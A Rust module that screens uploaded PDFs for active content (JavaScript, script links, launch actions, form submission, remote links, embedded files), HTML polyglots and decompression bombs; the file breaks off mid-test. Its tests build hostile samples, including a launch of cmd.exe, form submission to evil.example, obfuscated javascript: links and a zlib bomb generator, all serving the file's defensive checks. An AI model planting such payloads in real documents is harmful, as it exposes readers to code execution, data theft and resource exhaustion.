//! What an uploaded PDF must be: a document a PDF library can read, with at least one page,
//! and without the parts that act rather than show: JavaScript, `javascript:` links, launch
//! actions, forms that submit, links into other files, embedded files. A file that is also a
//! web page (a PDF and HTML polyglot) is refused too, and so is one whose compressed content
//! inflates past the bounds below (a decompression bomb).
//!
//! Every decompression of a PDF the server does goes through this module, within bounds
//! (docs/security.md): the object and cross-reference streams lopdf inflates while it loads a
//! file, each page's content and each form XObject (read to see whether a page shows text),
//! and all of them together. Other streams (images, fonts) are stored and served as they came,
//! never inflated.
use lopdf::{DecompressError, Document, Object};

/// The most one stream may inflate to: an object or cross-reference stream while the file is
/// loaded, a page's content (all its streams together), a form XObject.
pub const STREAM_LIMIT: usize = 16 << 20;
/// The most the page contents and forms of one file may inflate to, all together.
pub const FILE_LIMIT: usize = 256 << 20;

/// The most parts (numbers, names, strings, keywords, brackets) a PDF's syntax may hold,
/// counted in the file and in the object streams lopdf inflates while loading it. lopdf holds
/// each in an object of 120 bytes: 2,000,000 take about 240 MB at most. A 100-page report
/// holds a few hundred thousand; eight megabytes of `0 ` make four million.
pub const TOKEN_LIMIT: u64 = 2_000_000;

/// Why a PDF is refused; the text is shown to the administrator as it is (`msg`).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{}", self.msg())]
pub enum PdfRefusal {
    Broken,
    JavaScript,
    ScriptLink,
    Launch,
    SubmitForm,
    RemoteGoTo,
    EmbeddedFiles,
    Html,
    Inflates { limit: usize, whole_file: bool },
    TooManyParts { limit: u64 },
}

impl PdfRefusal {
    /// Its message in the catalogue.
    pub fn msg(&self) -> crate::messages::Msg {
        use crate::msg;
        match self {
            PdfRefusal::Broken => msg!("pdf-broken"),
            PdfRefusal::JavaScript => msg!("pdf-javascript"),
            PdfRefusal::ScriptLink => msg!("pdf-script-link"),
            PdfRefusal::Launch => msg!("pdf-launch"),
            PdfRefusal::SubmitForm => msg!("pdf-submit-form"),
            PdfRefusal::RemoteGoTo => msg!("pdf-remote-goto"),
            PdfRefusal::EmbeddedFiles => msg!("pdf-embedded-files"),
            PdfRefusal::Html => msg!("pdf-html"),
            PdfRefusal::Inflates { limit, whole_file } => {
                let mib = limit >> 20;
                if *whole_file {
                    msg!("pdf-inflates-all", n = mib)
                } else {
                    msg!("pdf-inflates-part", n = mib)
                }
            }
            PdfRefusal::TooManyParts { limit } => msg!("pdf-too-many-parts", n = *limit),
        }
    }
}

impl PdfRefusal {
    fn inflates_stream() -> PdfRefusal {
        PdfRefusal::Inflates {
            limit: STREAM_LIMIT,
            whole_file: false,
        }
    }
}

/// What the checks learnt of an accepted PDF.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Checked {
    /// Some page shows text (docs/health.md, documents without text).
    pub shows_text: bool,
}

/// Markers of HTML that a browser would act on, looked for in the raw bytes (lower-case).
const HTML_MARKERS: [&[u8]; 4] = [b"<html", b"<script", b"<!doctype html", b"<body"];

/// Checks an upload that starts with `%PDF-`, and says whether a page of it shows text.
/// Parses the whole file: call it on a blocking thread.
pub fn check(bytes: &[u8]) -> Result<Checked, PdfRefusal> {
    checked(bytes).map(|(_, checked)| checked)
}

/// [`check`], and the text of the accepted file's first pages ([`text`]): the file is parsed
/// once for both. Call it on a blocking thread.
pub fn check_and_read(bytes: &[u8]) -> Result<(Checked, String), PdfRefusal> {
    let (doc, checked) = checked(bytes)?;
    let text = if checked.shows_text {
        text(&doc)
    } else {
        String::new()
    };
    Ok((checked, text))
}

fn checked(bytes: &[u8]) -> Result<(Document, Checked), PdfRefusal> {
    if looks_like_html(bytes) {
        return Err(PdfRefusal::Html);
    }
    // A PDF ends with `%%EOF` (readers allow some bytes after it); without it the file was
    // cut off, even if what arrived can be pieced together.
    let end = bytes
        .iter()
        .rposition(|b| !b" \t\r\n\0\x0C".contains(b))
        .map_or(0, |p| p + 1);
    let tail = &bytes[end.saturating_sub(1024)..end];
    if !tail.windows(5).any(|w| w == b"%%EOF") {
        return Err(PdfRefusal::Broken);
    }
    let doc = load(bytes)?;
    if doc.get_pages().is_empty() {
        return Err(PdfRefusal::Broken);
    }
    for object in doc.objects.values() {
        let dict = match object {
            Object::Dictionary(d) => d,
            Object::Stream(s) => &s.dict,
            _ => continue,
        };
        scan(&doc, dict)?;
    }
    // Every page and form is inflated (within the bounds), so a bomb on any page is refused
    // even when the first page already shows text.
    let mut budget = Budget::new();
    let on_a_page = pages_show_text(&doc, &mut budget, false)?;
    let in_a_form = forms_show_text(&doc, &mut budget, false)?;
    let checked = Checked {
        shows_text: on_a_page || in_a_form,
    };
    Ok((doc, checked))
}

/// Loads a PDF with every stream lopdf inflates while loading bounded by [`STREAM_LIMIT`],
/// once its syntax is found to hold at most [`TOKEN_LIMIT`] parts.
pub fn load(bytes: &[u8]) -> Result<Document, PdfRefusal> {
    let tokens = count_tokens(bytes);
    if tokens > TOKEN_LIMIT {
        return Err(PdfRefusal::TooManyParts { limit: TOKEN_LIMIT });
    }
    let options = lopdf::LoadOptions {
        max_decompressed_size: Some(STREAM_LIMIT),
        ..lopdf::LoadOptions::default()
    };
    Document::load_mem_with_options(bytes, options).map_err(|e| {
        if is_over_limit(&e) {
            PdfRefusal::inflates_stream()
        } else {
            PdfRefusal::Broken
        }
    })
}

fn is_over_limit(e: &lopdf::Error) -> bool {
    matches!(
        e,
        lopdf::Error::Decompress(DecompressError::MemoryLimitExceeded { .. })
    )
}

/// Whether a page or a form of a loaded PDF shows text, stopping at the first that does;
/// a bomb is refused as in [`check`]. Parses the file: call it on a blocking thread.
pub fn shows_text(doc: &Document) -> Result<bool, PdfRefusal> {
    let mut budget = Budget::new();
    Ok(pages_show_text(doc, &mut budget, true)? || forms_show_text(doc, &mut budget, true)?)
}

/// The most text kept of one PDF for site search, in bytes of UTF-8 (docs/search.md): the
/// first pages' text up to this, cut at a character's end.
pub const TEXT_CAP: usize = 32 * 1024;
/// Pages whose content inflates past this are passed over when reading text: turning a page
/// into operations takes several times its size in memory, and pages of prose are far smaller.
pub const TEXT_PAGE_LIMIT: usize = 4 << 20;

/// The text a reader can copy from the pages of a loaded PDF, in page order, as lopdf decodes
/// it through each font's encoding (its ToUnicode map where it has one), white space collapsed,
/// stopping at [`TEXT_CAP`] bytes. A page that cannot be read, or whose content inflates past
/// [`TEXT_PAGE_LIMIT`], adds nothing. Parses the pages: call it on a blocking thread.
pub fn text(doc: &Document) -> String {
    use unicode_normalization::UnicodeNormalization as _;
    let mut out = String::new();
    for number in doc.get_pages().into_keys() {
        for chunk in doc
            .extract_text_chunks_with_limit(&[number], TEXT_PAGE_LIMIT)
            .into_iter()
            .flatten()
        {
            for word in chunk.split_whitespace() {
                // Control characters and the replacement character are no words of a text.
                let word: String = word
                    .nfc()
                    .filter(|c| !c.is_control() && *c != '\u{FFFD}')
                    .collect();
                if word.is_empty() {
                    continue;
                }
                let room = TEXT_CAP.saturating_sub(out.len() + usize::from(!out.is_empty()));
                if room == 0 {
                    return out;
                }
                if !out.is_empty() {
                    out.push(' ');
                }
                if word.len() > room {
                    let end = (0..=room)
                        .rev()
                        .find(|&i| word.is_char_boundary(i))
                        .unwrap_or(0);
                    out.push_str(&word[..end]);
                    return out;
                }
                out.push_str(&word);
            }
        }
    }
    out
}

/// What may still be inflated of one file, all streams together.
struct Budget {
    left: usize,
}

impl Budget {
    fn new() -> Budget {
        Budget { left: FILE_LIMIT }
    }

    /// The bound for the next stream: the smaller of [`STREAM_LIMIT`] and what is left.
    fn next(&self) -> usize {
        STREAM_LIMIT.min(self.left)
    }

    /// Charges what a stream inflated to.
    fn charge(&mut self, used: usize) {
        self.left = self.left.saturating_sub(used);
    }

    /// The refusal for a stream over `limit`: the stream's own bound, or the file's.
    fn refusal(&self, limit: usize) -> PdfRefusal {
        if limit < STREAM_LIMIT {
            PdfRefusal::Inflates {
                limit: FILE_LIMIT,
                whole_file: true,
            }
        } else {
            PdfRefusal::inflates_stream()
        }
    }
}

/// Whether some page shows text; with `first`, stops at the first that does.
fn pages_show_text(doc: &Document, budget: &mut Budget, first: bool) -> Result<bool, PdfRefusal> {
    let mut found = false;
    for page in doc.get_pages().into_values() {
        let limit = budget.next();
        let content = match doc.get_page_content_with_limit(page, limit) {
            Ok(content) => content,
            Err(e) if is_over_limit(&e) => return Err(budget.refusal(limit)),
            // An unreadable page shows nothing.
            Err(_) => continue,
        };
        budget.charge(content.len());
        found = found || operations_show_text(&content);
        if found && first {
            return Ok(true);
        }
    }
    Ok(found)
}

/// Whether a form XObject (content a page draws with `Do`, as many word processors and
/// scanners' text layers write it) shows text; with `first`, stops at the first that does.
fn forms_show_text(doc: &Document, budget: &mut Budget, first: bool) -> Result<bool, PdfRefusal> {
    let mut found = false;
    for object in doc.objects.values() {
        let Object::Stream(stream) = object else {
            continue;
        };
        let is_form = stream
            .dict
            .get(b"Subtype")
            .and_then(Object::as_name)
            .is_ok_and(|name| name == b"Form");
        if !is_form {
            continue;
        }
        let limit = budget.next();
        let data = match stream.decompressed_content_with_limit(limit) {
            Ok(data) => data,
            Err(e) if is_over_limit(&e) => return Err(budget.refusal(limit)),
            Err(_) => continue,
        };
        budget.charge(data.len());
        found = found || operations_show_text(&data);
        if found && first {
            return Ok(true);
        }
    }
    Ok(found)
}

/// Text-showing operators of a content stream.
const SHOW_TEXT: [&[u8]; 4] = [b"Tj", b"TJ", b"'", b"\""];

/// True when a content stream shows at least one character: a text-showing operator whose
/// operands hold a non-empty string. Reads the bytes once, holding nothing of them (parsing
/// into operations would take many times the stream's size in memory).
pub fn operations_show_text(content: &[u8]) -> bool {
    let mut i = 0;
    // A non-empty string among the operands since the last operator.
    let mut text = false;
    while let Some(&b) = content.get(i) {
        match b {
            b'%' => {
                while content.get(i).is_some_and(|c| *c != b'\n' && *c != b'\r') {
                    i += 1;
                }
            }
            b'(' => {
                let (end, chars) = literal_string(content, i + 1);
                text |= chars;
                i = end;
            }
            b'<' if content.get(i + 1) == Some(&b'<') => i += 2,
            b'<' => {
                let end = content[i..]
                    .iter()
                    .position(|c| *c == b'>')
                    .map_or(content.len(), |p| i + p + 1);
                text |= content[i + 1..end.saturating_sub(1).max(i + 1)]
                    .iter()
                    .any(u8::is_ascii_hexdigit);
                i = end;
            }
            b'>' | b'[' | b']' | b'{' | b'}' | b')' => i += 1,
            b'/' => {
                i += 1;
                while content.get(i).is_some_and(|c| is_regular(*c)) {
                    i += 1;
                }
            }
            _ if !is_regular(b) => i += 1,
            _ => {
                let start = i;
                while content.get(i).is_some_and(|c| is_regular(*c)) {
                    i += 1;
                }
                let word = &content[start..i];
                let operand = word[0].is_ascii_digit()
                    || matches!(word[0], b'+' | b'-' | b'.')
                    || matches!(word, b"true" | b"false" | b"null");
                if operand {
                    continue;
                }
                if text && SHOW_TEXT.contains(&word) {
                    return true;
                }
                text = false;
                if word == b"ID" {
                    i = after_inline_image(content, i);
                }
            }
        }
    }
    false
}

/// PDF white space and delimiters end a word; everything else is part of one.
fn is_regular(b: u8) -> bool {
    !matches!(
        b,
        b'\0'
            | b'\t'
            | b'\n'
            | b'\x0C'
            | b'\r'
            | b' '
            | b'('
            | b')'
            | b'<'
            | b'>'
            | b'['
            | b']'
            | b'{'
            | b'}'
            | b'/'
            | b'%'
    )
}

/// Reads a literal string whose body starts at `i` (after its opening parenthesis): where it
/// ends, and whether it holds a character.
fn literal_string(content: &[u8], mut i: usize) -> (usize, bool) {
    let mut depth = 1u32;
    let mut chars = false;
    while let Some(&b) = content.get(i) {
        i += 1;
        match b {
            b'\\' => {
                // An escaped line end continues the line and adds nothing.
                match content.get(i) {
                    Some(b'\r') => {
                        i += 1;
                        if content.get(i) == Some(&b'\n') {
                            i += 1;
                        }
                    }
                    Some(b'\n') => i += 1,
                    Some(_) => {
                        chars = true;
                        i += 1;
                    }
                    None => {}
                }
            }
            b'(' => {
                depth += 1;
                chars = true;
            }
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return (i, chars);
                }
                chars = true;
            }
            _ => chars = true,
        }
    }
    (i, chars)
}

/// Skips an inline image's data, which follows `ID` and one white-space byte and ends with
/// white space, `EI` and white space (or the end of the stream).
fn after_inline_image(content: &[u8], from: usize) -> usize {
    let mut i = from + 1;
    while i + 2 <= content.len() {
        let ends = content[i - 1].is_ascii_whitespace()
            && &content[i..i + 2] == b"EI"
            && content.get(i + 2).is_none_or(|c| !is_regular(*c));
        if ends {
            return i + 2;
        }
        i += 1;
    }
    content.len()
}

/// Counts the parts of a PDF's syntax without parsing it: the tokens of the file outside its
/// streams' data, and of the object streams (Flate-compressed, as writers make them) inside
/// it, inflated within [`STREAM_LIMIT`] and counted as they inflate. Stops counting past
/// [`TOKEN_LIMIT`].
fn count_tokens(bytes: &[u8]) -> u64 {
    let mut lexer = Lexer::default();
    let mut i = 0;
    while i < bytes.len() && lexer.count <= TOKEN_LIMIT {
        if !lexer.step(bytes[i]) {
            i += 1;
            continue;
        }
        // A `stream` keyword ended at `i`: its data starts after the line end.
        let start = if bytes[i] == b'\r' && bytes.get(i + 1) == Some(&b'\n') {
            i + 2
        } else {
            i + 1
        };
        let end = bytes
            .get(start..)
            .and_then(|rest| rest.windows(9).position(|w| w == b"endstream"))
            .map_or(bytes.len(), |p| start + p);
        if is_object_stream(&bytes[..i]) {
            lexer.count += inflated_tokens(&bytes[start.min(end)..end]);
        }
        lexer.state = Lex::Space;
        i = end + 9;
    }
    lexer.count
}

/// True when the dictionary just before a `stream` keyword (back to its `obj`) makes an
/// object stream compressed with Flate.
fn is_object_stream(before: &[u8]) -> bool {
    let window = &before[before.len().saturating_sub(4096)..];
    let dict = window
        .windows(3)
        .rposition(|w| w == b"obj")
        .map_or(window, |p| &window[p..]);
    let has = |what: &[u8]| dict.windows(what.len()).any(|w| w == what);
    has(b"/ObjStm") && has(b"/FlateDecode")
}

/// The tokens of Flate data, inflated within [`STREAM_LIMIT`] and counted as it inflates.
fn inflated_tokens(data: &[u8]) -> u64 {
    use std::io::Read as _;
    let mut inflater =
        flate2::read::ZlibDecoder::new(data).take(u64::try_from(STREAM_LIMIT).unwrap_or(u64::MAX));
    let mut lexer = Lexer::default();
    let mut chunk = vec![0u8; 64 * 1024];
    while let Ok(n) = inflater.read(&mut chunk) {
        if n == 0 || lexer.count > TOKEN_LIMIT {
            break;
        }
        for &b in &chunk[..n] {
            lexer.step(b);
        }
    }
    lexer.count
}

/// Where the token counter is.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum Lex {
    #[default]
    Space,
    Word,
    Comment,
    /// After one `<`: a dictionary's start or a hexadecimal string.
    Angle,
    Hex,
    Literal {
        depth: u32,
        escaped: bool,
    },
}

/// Counts tokens byte by byte, and sees the keyword `stream`.
#[derive(Debug, Default)]
struct Lexer {
    count: u64,
    state: Lex,
    /// The start of the present word.
    word: [u8; 6],
    word_len: usize,
}

impl Lexer {
    /// Takes one byte; true when it ended the word `stream`.
    fn step(&mut self, b: u8) -> bool {
        match self.state {
            Lex::Word if is_regular(b) => {
                if self.word_len < self.word.len() {
                    self.word[self.word_len] = b;
                }
                self.word_len += 1;
                false
            }
            Lex::Word => {
                let stream = self.word_len == 6 && &self.word == b"stream";
                self.state = Lex::Space;
                self.between(b);
                stream
            }
            Lex::Comment => {
                if b == b'\n' || b == b'\r' {
                    self.state = Lex::Space;
                }
                false
            }
            Lex::Angle => {
                if b == b'<' {
                    self.state = Lex::Space;
                } else {
                    self.state = if b == b'>' { Lex::Space } else { Lex::Hex };
                }
                false
            }
            Lex::Hex => {
                if b == b'>' {
                    self.state = Lex::Space;
                }
                false
            }
            Lex::Literal { depth, escaped } => {
                self.state = match (b, escaped) {
                    (_, true) => Lex::Literal {
                        depth,
                        escaped: false,
                    },
                    (b'\\', false) => Lex::Literal {
                        depth,
                        escaped: true,
                    },
                    (b'(', false) => Lex::Literal {
                        depth: depth + 1,
                        escaped: false,
                    },
                    (b')', false) if depth <= 1 => Lex::Space,
                    (b')', false) => Lex::Literal {
                        depth: depth - 1,
                        escaped: false,
                    },
                    _ => Lex::Literal { depth, escaped },
                };
                false
            }
            Lex::Space => {
                self.between(b);
                false
            }
        }
    }

    /// A byte between tokens: white space, or the start of one.
    fn between(&mut self, b: u8) {
        match b {
            b'\0' | b'\t' | b'\n' | b'\x0C' | b'\r' | b' ' => {}
            b'%' => self.state = Lex::Comment,
            b'(' => {
                self.count += 1;
                self.state = Lex::Literal {
                    depth: 1,
                    escaped: false,
                };
            }
            b'<' => {
                self.count += 1;
                self.state = Lex::Angle;
            }
            b'>' | b')' => {}
            b'[' | b']' | b'{' | b'}' => self.count += 1,
            b'/' => {
                self.count += 1;
                self.state = Lex::Word;
                self.word_len = 0;
            }
            _ => {
                self.count += 1;
                self.state = Lex::Word;
                self.word[0] = b;
                self.word_len = 1;
            }
        }
    }
}

/// Looks at one dictionary and the dictionaries nested in it.
fn scan(doc: &Document, dict: &lopdf::Dictionary) -> Result<(), PdfRefusal> {
    for (key, value) in dict.iter() {
        match key.as_slice() {
            b"JS" | b"JavaScript" => return Err(PdfRefusal::JavaScript),
            b"EmbeddedFiles" | b"EF" => return Err(PdfRefusal::EmbeddedFiles),
            b"S" | b"Type" | b"Subtype" => match value.as_name().ok() {
                Some(b"JavaScript") => return Err(PdfRefusal::JavaScript),
                Some(b"Launch") => return Err(PdfRefusal::Launch),
                Some(b"SubmitForm") => return Err(PdfRefusal::SubmitForm),
                Some(b"GoToR") => return Err(PdfRefusal::RemoteGoTo),
                Some(b"EmbeddedFile" | b"FileAttachment") => {
                    return Err(PdfRefusal::EmbeddedFiles);
                }
                _ => {}
            },
            b"URI" => {
                // The address may be written in place or as an object of its own.
                let address = match value {
                    Object::Reference(id) => doc.get_object(*id).ok(),
                    other => Some(other),
                };
                if let Some(Object::String(bytes, _)) = address
                    && runs_script(bytes)
                {
                    return Err(PdfRefusal::ScriptLink);
                }
            }
            _ => {}
        }
        scan_value(doc, value)?;
    }
    Ok(())
}

fn scan_value(doc: &Document, value: &Object) -> Result<(), PdfRefusal> {
    match value {
        Object::Dictionary(d) => scan(doc, d),
        Object::Stream(s) => scan(doc, &s.dict),
        Object::Array(items) => items.iter().try_for_each(|v| scan_value(doc, v)),
        _ => Ok(()),
    }
}

/// True for an address a viewer or browser would run as a script: `javascript:` (or
/// `vbscript:`), in any case, with the white space and control characters browsers skip, in
/// PDFDocEncoding or UTF-16 with its byte order mark.
fn runs_script(address: &[u8]) -> bool {
    let text = lopdf::decode_text_string(&Object::String(
        address.to_vec(),
        lopdf::StringFormat::Literal,
    ))
    .unwrap_or_else(|_| address.iter().map(|b| char::from(*b)).collect());
    let scheme: String = text
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .take(11)
        .flat_map(char::to_lowercase)
        .collect();
    scheme.starts_with("javascript:") || scheme.starts_with("vbscript:")
}

/// True when the bytes carry an HTML document a browser would render if it sniffed them.
fn looks_like_html(bytes: &[u8]) -> bool {
    bytes.iter().enumerate().any(|(i, b)| {
        *b == b'<'
            && HTML_MARKERS.iter().any(|m| {
                bytes
                    .get(i..i + m.len())
                    .is_some_and(|w| w.eq_ignore_ascii_case(m))
            })
    })
}

/// A minimal, valid one-page PDF whose catalog carries `extra` (for example an
/// `/OpenAction`), and `tail` after its end: for tests.
#[cfg(test)]
pub fn sample(extra: &str, tail: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R {extra} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_string(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n{tail}",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use lopdf::{Stream, dictionary};
    use std::io::Write as _;

    #[test]
    fn a_plain_pdf_passes() {
        assert_eq!(check(&sample("", "")), Ok(Checked { shows_text: false }));
    }

    #[test]
    fn broken_active_and_polyglot_pdfs_are_refused() {
        for (bytes, refusal) in [
            (b"%PDF-".to_vec(), PdfRefusal::Broken),
            (
                b"%PDF-1.4\n1 0 obj << >> endobj\n".to_vec(),
                PdfRefusal::Broken,
            ),
            (
                sample("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""),
                PdfRefusal::JavaScript,
            ),
            (
                sample("/OpenAction << /S /Launch /F (cmd.exe) >>", ""),
                PdfRefusal::Launch,
            ),
            (
                sample("/Names << /EmbeddedFiles << /Names [] >> >>", ""),
                PdfRefusal::EmbeddedFiles,
            ),
            (
                sample("", "<html><body><script>alert(1)</script></body></html>"),
                PdfRefusal::Html,
            ),
            (
                sample("/OpenAction << /S /Java#53cript /J#53 (x) >>", ""),
                PdfRefusal::JavaScript,
            ),
        ] {
            assert_eq!(check(&bytes), Err(refusal.clone()), "{refusal:?}");
        }
    }

    /// A PDF of these objects (numbered from 1, the first the catalog), written as they are.
    fn raw_pdf(objects: &[Vec<u8>]) -> Vec<u8> {
        let mut out = b"%PDF-1.5\n".to_vec();
        let mut offsets = Vec::new();
        for (i, body) in objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        let xref = out.len();
        out.extend_from_slice(
            format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
        );
        for offset in offsets {
            out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
        }
        out.extend_from_slice(
            format!(
                "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
                objects.len() + 1
            )
            .as_bytes(),
        );
        out
    }

    /// A one-page PDF whose page carries a link annotation with the action `action`, and the
    /// catalog `catalog`.
    fn with_link(action: &str, catalog: &str) -> Vec<u8> {
        raw_pdf(&[
            format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>").into_bytes(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>".to_vec(),
            format!("<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A {action} >>").into_bytes(),
            b"(JavaScript:void(0))".to_vec(),
        ])
    }

    #[test]
    fn actions_that_run_send_or_open_elsewhere_are_refused_by_name() {
        for (action, catalog, refusal) in [
            (
                "<< /S /URI /URI (javascript:alert(1)) >>",
                "",
                PdfRefusal::ScriptLink,
            ),
            (
                "<< /S /URI /URI ( \\tJaVaScRiPt:alert\\(1\\)) >>",
                "",
                PdfRefusal::ScriptLink,
            ),
            // UTF-16 with its byte order mark: "javascript:".
            (
                "<< /S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031> >>",
                "",
                PdfRefusal::ScriptLink,
            ),
            // The address as an object of its own.
            ("<< /S /URI /URI 5 0 R >>", "", PdfRefusal::ScriptLink),
            (
                "<< /S /URI /URI (https://example.org) >>",
                "/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>",
                PdfRefusal::SubmitForm,
            ),
            (
                "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
                "",
                PdfRefusal::SubmitForm,
            ),
            (
                "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
                "",
                PdfRefusal::RemoteGoTo,
            ),
            (
                "<< /S /URI /URI (https://example.org) >>",
                "/OpenAction << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) >>",
                PdfRefusal::RemoteGoTo,
            ),
            ("<< /S /Launch /F (calc.exe) >>", "", PdfRefusal::Launch),
        ] {
            assert_eq!(
                check(&with_link(action, catalog)),
                Err(refusal.clone()),
                "{action} {catalog}"
            );
        }
        // Ordinary links, and links within the file, stay.
        for action in [
            "<< /S /URI /URI (https://oshec.odisha.gov.in/notices) >>",
            "<< /S /URI /URI (mailto:office@example.org) >>",
            "<< /S /GoTo /D [3 0 R /Fit] >>",
        ] {
            assert!(check(&with_link(action, "")).is_ok(), "{action}");
        }
        // The message says which.
        for (refusal, words) in [
            (PdfRefusal::ScriptLink, "javascript: address"),
            (PdfRefusal::SubmitForm, "SubmitForm"),
            (PdfRefusal::RemoteGoTo, "GoToR"),
            (PdfRefusal::Launch, "launch action"),
        ] {
            assert!(refusal.to_string().contains(words), "{refusal}");
        }
    }

    /// Deflate (zlib) data that inflates to `prefix` and then `mib` MiB of `unit` repeated,
    /// made without compressing that much: after one MiB, each further MiB compresses to the
    /// same bytes (its matches all reach back into the same pattern), so that block is
    /// repeated. The checksum at the end is left wrong: the bounds stop the inflating long
    /// before it.
    fn repeated_bomb(prefix: &[u8], unit: &[u8], mib: usize) -> Vec<u8> {
        let fill: Vec<u8> = unit.iter().copied().cycle().take(1 << 20).collect();
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        assert!(encoder.write_all(prefix).is_ok());
        assert!(encoder.write_all(&fill).is_ok());
        assert!(encoder.flush().is_ok());
        let first = encoder.get_ref().len();
        assert!(encoder.write_all(&fill).is_ok());
        assert!(encoder.flush().is_ok());
        let mut out = encoder.get_ref().clone();
        let block = out[first..].to_vec();
        for _ in 2..mib {
            out.extend_from_slice(&block);
        }
        out.extend_from_slice(&[0x03, 0x00, 0, 0, 0, 0]);
        out
    }

    fn spaces_bomb(prefix: &[u8], mib: usize) -> Vec<u8> {
        repeated_bomb(prefix, b" ", mib)
    }

    fn saved(mut doc: Document) -> Vec<u8> {
        let mut out = Vec::new();
        assert!(doc.save_to(&mut out).is_ok());
        out
    }

    /// A one-page PDF whose page content (and, with `in_a_form`, a form the page draws) is
    /// `content`, compressed as given.
    fn page_with(content: Vec<u8>, in_a_form: bool) -> Vec<u8> {
        let mut doc = Document::with_version("1.5");
        let pages_id = doc.new_object_id();
        let flate = dictionary! { "Filter" => "FlateDecode" };
        let (contents, resources) = if in_a_form {
            let mut dict = flate.clone();
            dict.set("Type", "XObject");
            dict.set("Subtype", "Form");
            let form = doc.add_object(Stream::new(dict, content));
            let draw = doc.add_object(Stream::new(dictionary! {}, b"/Fm1 Do".to_vec()));
            (
                draw,
                dictionary! { "XObject" => dictionary! { "Fm1" => form } },
            )
        } else {
            (doc.add_object(Stream::new(flate, content)), dictionary! {})
        };
        let page_id = doc.add_object(dictionary! {
            "Type" => "Page", "Parent" => pages_id, "Contents" => contents,
            "Resources" => resources,
        });
        doc.objects.insert(
            pages_id,
            Object::Dictionary(dictionary! {
                "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
                "MediaBox" => vec![0.into(), 0.into(), 200.into(), 200.into()],
            }),
        );
        let catalog_id = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
        doc.trailer.set("Root", catalog_id);
        saved(doc)
    }

    #[test]
    fn a_page_or_form_that_inflates_past_the_bound_is_refused() {
        let over = PdfRefusal::Inflates {
            limit: STREAM_LIMIT,
            whole_file: false,
        };
        let bomb = spaces_bomb(b"BT (x) Tj ET", 64);
        assert!(bomb.len() < 200 * 1024, "{} bytes", bomb.len());
        assert_eq!(check(&page_with(bomb.clone(), false)), Err(over.clone()));
        assert_eq!(check(&page_with(bomb, true)), Err(over.clone()));
        assert!(over.to_string().contains("more than 16 MiB"), "{over}");
        // Within the bound, the same kind of page is taken, and its text seen.
        let fine = spaces_bomb(b"BT (x) Tj ET", 2);
        assert_eq!(
            check(&page_with(fine, false)),
            Ok(Checked { shows_text: true })
        );
    }

    #[test]
    fn an_object_stream_that_inflates_past_the_bound_is_refused_while_loading() {
        let bomb = spaces_bomb(b"99 0 null", 64);
        let mut stream = format!(
            "<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length {} >>\nstream\n",
            bomb.len()
        )
        .into_bytes();
        stream.extend_from_slice(&bomb);
        stream.extend_from_slice(b"\nendstream");
        let file = raw_pdf(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
            stream,
        ]);
        assert_eq!(
            check(&file),
            Err(PdfRefusal::Inflates {
                limit: STREAM_LIMIT,
                whole_file: false
            })
        );
    }

    #[test]
    fn the_parts_of_a_pdf_are_counted_in_the_file_and_its_object_streams() {
        assert_eq!(
            count_tokens(b"1 0 obj << /A [1 2.5 (a b (c) d\\)) <41 42>] >> endobj"),
            12
        );
        assert_eq!(count_tokens(b"% 1 2 3\n/N 0 R"), 3);
        // Stream data is not syntax, unless the stream is an object stream.
        let data = b"1 0 obj << /Length 11 >> stream\n0 0 0 0 0 0\nendstream endobj";
        assert_eq!(count_tokens(data), 8);
        let mut objstm =
            b"1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\r\n".to_vec();
        objstm.extend_from_slice(&spaces_bomb(b"9 0 [0 0 0]", 2));
        objstm.extend_from_slice(b"\nendstream endobj");
        assert_eq!(count_tokens(&objstm), 14 + 7);
    }

    #[test]
    fn a_pdf_of_too_many_parts_is_refused_before_it_is_parsed() {
        let over = PdfRefusal::TooManyParts { limit: TOKEN_LIMIT };
